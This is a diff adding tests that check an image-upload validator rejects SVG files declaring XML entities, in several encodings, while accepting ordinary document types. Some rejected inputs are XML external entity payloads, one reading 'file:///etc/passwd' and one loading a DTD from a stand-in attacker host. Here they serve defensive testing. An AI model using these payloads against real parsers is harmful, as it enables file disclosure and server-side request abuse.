@@ -61,3 +61,32 @@ test('an SVG without dimensions is rejected (U12)', async () => {
   const init = asForm({ image: fileOf(svg('', '')) });
   expect(Object.keys(await fieldMessages(createMock(), path, init))).toEqual(['image']);
 });
+
+const PUBLIC_TYPE = '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"';
+
+test.each([
+  ['an entity', '<!DOCTYPE svg [<!ENTITY x "aaaa">]>'],
+  ['an external entity', '<?xml version="1.0"?><!DOCTYPE svg [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>'],
+  ['a parameter entity', '<!-- > --><!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>'],
+  [
+    'entities after other declarations',
+    '<!DOCTYPE svg [<!ATTLIST g a CDATA "]>"><?x ]>?>\n<!ENTITY x "a">]>',
+  ],
+  ['entities and a public document type', `<!DOCTYPE svg PUBLIC ${PUBLIC_TYPE} [<!ENTITY x "a">]>`],
+])('an SVG that declares %s is rejected, however it is encoded (U12)', async (_, prolog) => {
+  const text = `${prolog}${svg('<text>&x;</text>').toString()}`;
+  for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le')])
+    expect(await fieldMessages(createMock(), path, asForm({ image: fileOf(bytes) }))).toEqual({
+      image: 'must be a complete picture; an SVG must not declare entities',
+    });
+});
+
+test.each([
+  ['a plain document type', '<!DOCTYPE svg>'],
+  ['the document type that editors write', `<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC ${PUBLIC_TYPE}>\n`],
+  ['a document type that declares an attribute', '<!DOCTYPE svg [<!ATTLIST g a CDATA #IMPLIED>]>'],
+  ['a comment about entities', '<!-- <!ENTITY x "a"> -->'],
+])('an SVG with %s is accepted (U12)', async (_, prolog) => {
+  const bytes = Buffer.from(`${prolog}${svg('<text>&lt;!ENTITY</text>').toString()}`);
+  expect((await upload(createMock(), asForm({ image: fileOf(bytes) }))).format).toBe('SVG');
+});
